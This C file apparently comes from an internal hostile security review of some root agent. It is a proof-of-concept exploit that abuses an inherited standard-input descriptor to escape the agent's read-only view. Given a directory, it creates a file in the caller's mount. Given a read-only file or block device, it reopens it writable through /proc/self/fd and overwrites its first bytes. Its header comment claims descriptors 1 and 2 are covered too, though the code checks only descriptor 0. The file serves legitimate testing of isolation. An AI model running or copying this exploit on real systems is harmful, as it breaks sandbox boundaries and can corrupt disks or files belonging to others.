/* ha18-stdio.c (hostile review h-attack18, against main 22693ed): what a
 * root agent does with descriptor 0 its caller left it (1 and 2 alike). If
 * it is a directory: create argv[1] in it (the descriptor is of the caller's
 * mount, in the caller's namespace, which the agent's read-only copies do
 * not change); a regular file or block device opened read-only: reopen it
 * through /proc/self/fd/N for writing and write argv[2] at offset 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int wrote = 0;

	if (argc < 3)
		return 2;
	for (int fd = 0; fd < 1; fd++) {
		struct stat st;
		char path[64];
		int flags = fcntl(fd, F_GETFL), w;

		if (fstat(fd, &st) != 0)
			continue;
		if (S_ISDIR(st.st_mode)) {
			w = openat(fd, argv[1], O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
			if (w < 0) {
				dprintf(2, "stdio: fd %d dir: create %s: %s\n", fd, argv[1],
					strerror(errno));
				continue;
			}
			if (write(w, argv[2], strlen(argv[2])) > 0)
				wrote = 1;
			close(w);
			dprintf(2, "stdio: fd %d is a directory: created %s in it\n", fd, argv[1]);
			continue;
		}
		if (!S_ISREG(st.st_mode) && !S_ISBLK(st.st_mode))
			continue;
		dprintf(2, "stdio: fd %d is a %s opened %s\n", fd,
			S_ISREG(st.st_mode) ? "file" : "block device",
			(flags & O_ACCMODE) == O_RDONLY ? "read-only" : "for writing");
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		w = open(path, O_RDWR | O_CLOEXEC);
		if (w < 0) {
			dprintf(2, "stdio: reopen %s O_RDWR: %s\n", path, strerror(errno));
			continue;
		}
		if (pwrite(w, argv[2], strlen(argv[2]), 0) == (ssize_t)strlen(argv[2]))
			wrote = 1;
		fsync(w);
		close(w);
		dprintf(2, "stdio: reopened fd %d for writing and wrote '%s' at offset 0\n", fd,
			argv[2]);
	}
	return wrote ? 0 : 1;
}
